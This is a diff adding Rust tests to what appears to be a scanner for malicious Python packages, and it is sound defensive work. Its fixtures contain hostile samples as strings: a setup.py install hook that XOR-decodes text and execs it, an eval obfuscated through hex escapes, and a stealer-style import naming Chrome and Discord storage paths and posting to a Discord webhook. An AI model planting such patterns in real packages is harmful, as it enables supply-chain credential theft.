@@ -219,3 +219,54 @@ fn snapshot_install_network() {
         .collect();
     insta::assert_snapshot!(rendered.join("\n"), @"install-network canary-1.0/setup.py:2 [install] urllib.request.urlopen() at module level (runs during pip install) | urllib.request.urlopen('http://127.0.0.1:9/')");
 }
+
+#[test]
+fn xor_decoded_exec_in_cmdclass() {
+    let src = r#"
+from setuptools.command.install import install
+class C(install):
+    def run(self):
+        data = "\x05\x0b\x14"
+        key = "key"
+        out = ""
+        for i in range(len(data)):
+            out += chr(ord(data[i]) ^ ord(key[i % len(key)]))
+        eval(compile(out, '<string>', 'exec'))
+"#;
+    let f = run("x/setup.py", FileRole::SetupScript, src);
+    assert!(ids(&f).contains(&"decode-exec"), "{f:#?}");
+}
+
+#[test]
+fn eval_of_eval_is_hidden_exec() {
+    // BlankOBF shape: eval obtained by evaluating its own name, then run on computed text
+    let src = "_e = eval(\"\\x65\\x76\\x61\\x6c\")\ndef f(x):\n    return x[::-1]\n_e(f(')1(tnirp'))\n";
+    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
+    assert!(ids(&f).contains(&"hidden-exec"), "{f:#?}");
+    // plain reflection is not an indirection
+    let benign = "import builtins\ndef lookup(name):\n    return getattr(builtins, name)\n";
+    assert!(run("pkg/util.py", FileRole::Module, benign).is_empty());
+}
+
+#[test]
+fn build_scripts_outside_packages_run_by_hand() {
+    let script = "import urllib.request, subprocess\nr = urllib.request.urlopen('https://example.invalid/lib.zip')\nopen('lib.zip', 'wb').write(r.read())\nsubprocess.check_call(['meson', 'build'])\n";
+    let init = SourceFile { path: "p-1.0/pkg/__init__.py", text: "", role: FileRole::PackageInit };
+    let tool = SourceFile { path: "p-1.0/tools/fetch_deps.py", text: script, role: FileRole::Module };
+    let f = analyze_package(&[init, tool], &PackageContext::default());
+    assert!(!critical(&f), "{f:#?}");
+    assert!(ids(&f).contains(&"network-access"));
+}
+
+#[test]
+fn stealer_posting_to_webhook_on_import() {
+    let src = r#"
+import os, requests
+HOOK = "https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnopqrstuvwxyzABCDEFGHIJ"
+local = os.getenv("LOCALAPPDATA")
+paths = [local + "\\Google\\Chrome\\User Data\\Default", local + "\\discord\\Local Storage\\leveldb"]
+requests.post(HOOK, json={"content": "hi"})
+"#;
+    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
+    assert!(ids(&f).contains(&"exfiltration"), "{f:#?}");
+}
